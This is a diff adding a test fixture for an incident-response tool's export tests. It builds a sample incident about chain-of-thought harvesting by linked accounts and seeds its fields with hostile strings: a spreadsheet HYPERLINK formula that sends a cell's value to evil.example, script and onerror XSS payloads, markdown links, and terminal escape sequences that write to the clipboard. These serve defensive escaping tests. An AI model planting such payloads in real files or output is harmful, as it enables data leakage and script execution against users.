@@ -1,0 +1,134 @@
+"""The fixed incident of the export tests: every event type the report reads, hostile text."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+from ircli.core.approvals import approval_subject
+from ircli.services.incidents import add_note, close_incident, open_incident
+from ircli.services.workspace import Workspace
+
+# Read before the hermetic fixture clears IRCLI_* variables.
+UPDATE_GOLDEN = os.environ.get("IRCLI_UPDATE_GOLDEN") == "1"
+GOLDEN = Path(__file__).parent / "golden"
+FORUM_KEY = "test-forum-key-0123456789"
+
+CSV_PAYLOAD = '=HYPERLINK("http://evil.example/x?"&A1,"click")'
+HTML_PAYLOAD = '<script>alert("x")</script><img src="http://evil.example/p.png" onerror=alert(1)>'
+MD_PAYLOAD = "[click me](http://evil.example) ![img](http://evil.example/i.png) **bold** | pipe"
+PROMPT_CANARY = "canary-prompt-5f1c: explain the reasoning behind this answer"
+ESC_PAYLOAD = "\x1b]52;c;cHduZWQ=\x07\x1b[2J red\x1b[31m"
+
+
+def build_incident(ws: Workspace) -> str:
+    """Open and work a small incident; returns its id. Deterministic under a FixedClock."""
+    state = open_incident(
+        ws,
+        title="CoT harvesting from a hydra cluster <b>bold</b>",
+        severity="sev2",
+        tlp="AMBER",
+        subjects=["acct-1001", "acct-1002", "acct-1003"],
+        description="Three trial accounts ask for the reasoning behind finished answers.\n"
+        + HTML_PAYLOAD,
+        playbook="distillation",
+    )
+    inc, store = state.id, ws.store
+    store.append(inc, "step.started", {"step": "preserve"}, "alice")
+    store.append(
+        inc,
+        "evidence.added",
+        {
+            "evidence_id": "EV-0001",
+            "source": "logs",
+            "query": {"accounts": ["acct-1001"], "days": 14},
+            "records": 12840,
+            "quarantined": 3,
+            "sha256": "a" * 64,
+            "normalized_sha256": "b" * 64,
+            "sample_prompts": [CSV_PAYLOAD, HTML_PAYLOAD, PROMPT_CANARY],
+        },
+        "alice",
+    )
+    store.append(
+        inc,
+        "analysis.completed",
+        {
+            "accounts": 42,
+            "clusters": 2,
+            "verdicts": {"alert": 31, "watch": 6, "clear": 5},
+            "indicators": [
+                {"name": "cot_elicitation_share", "value": 0.91},
+                {"name": "shared_payment_fingerprint", "value": 0.74},
+                {"name": "automation_regularity", "value": 0.66},
+                {"name": MD_PAYLOAD, "value": 0.1},
+            ],
+        },
+        "alice",
+    )
+    add_note(ws, inc, CSV_PAYLOAD)
+    add_note(ws, inc, HTML_PAYLOAD + " " + MD_PAYLOAD + " " + ESC_PAYLOAD)
+    decision = {
+        "step": "decide",
+        "option": "confirmed campaign",
+        "rationale": "Two families agree: "
+        "content (CoT share 0.91) and identity (shared payment across 3 orgs). " + CSV_PAYLOAD,
+    }
+    store.append(inc, "decision.recorded", {**decision, "evidence": ["EV-0001"]}, "alice")
+    subject = approval_subject(decision)
+    store.append(
+        inc,
+        "approval.requested",
+        {"step": "decide", "subject": subject, "required": 1, "from": [], "summary": "confirm"},
+        "alice",
+    )
+    store.append(
+        inc, "approval.granted", {"step": "decide", "subject": subject, "comment": "agree"}, "bob"
+    )
+    store.append(
+        inc,
+        "action.requested",
+        {
+            "action_id": "ACT-1",
+            "action": "terminate",
+            "step": "contain",
+            "targets": ["acct-1001", "acct-1002", "acct-1003", "acct-1004"],
+            "dry_run": False,
+        },
+        "alice",
+    )
+    store.append(
+        inc,
+        "approval.rejected",
+        {"step": "report", "subject": "c" * 64, "comment": "not yet"},
+        "carol",
+    )
+    for account in ("acct-1001", "acct-1002"):
+        store.append(
+            inc, "action.target_succeeded", {"action_id": "ACT-1", "target": account}, "alice"
+        )
+    store.append(
+        inc,
+        "action.target_failed",
+        {"action_id": "ACT-1", "target": "acct-1003", "reason": "HTTP 503"},
+        "alice",
+    )
+    store.append(inc, "action.target_succeeded", {"target": "missing-action-id"}, "alice")
+    store.append(inc, "decision.recorded", {}, "alice")  # malformed: must not crash a writer
+    store.append(inc, "analysis.completed", {"verdicts": "nonsense", "indicators": 7}, "alice")
+    store.append(
+        inc,
+        "report.submitted",
+        {
+            "status_id": "status--5b0ac8e2-8f7c-4a0e-9c55-2a6d7e3f0b11",
+            "status": "complete",
+            "objects": 17,
+            "bundle_sha256": "d" * 64,
+        },
+        "alice",
+    )
+    # Responder names may start with "-", "+" or "@": a spreadsheet would read a formula.
+    store.append(inc, "note.added", {"text": "second opinion"}, "-mallory+1")
+    store.append(inc, "plugin.something", {"weird": [1, {"x": None}]}, "alice")
+    close_incident(ws, inc, summary="Campaign contained; report filed with the Forum.")
+    return inc
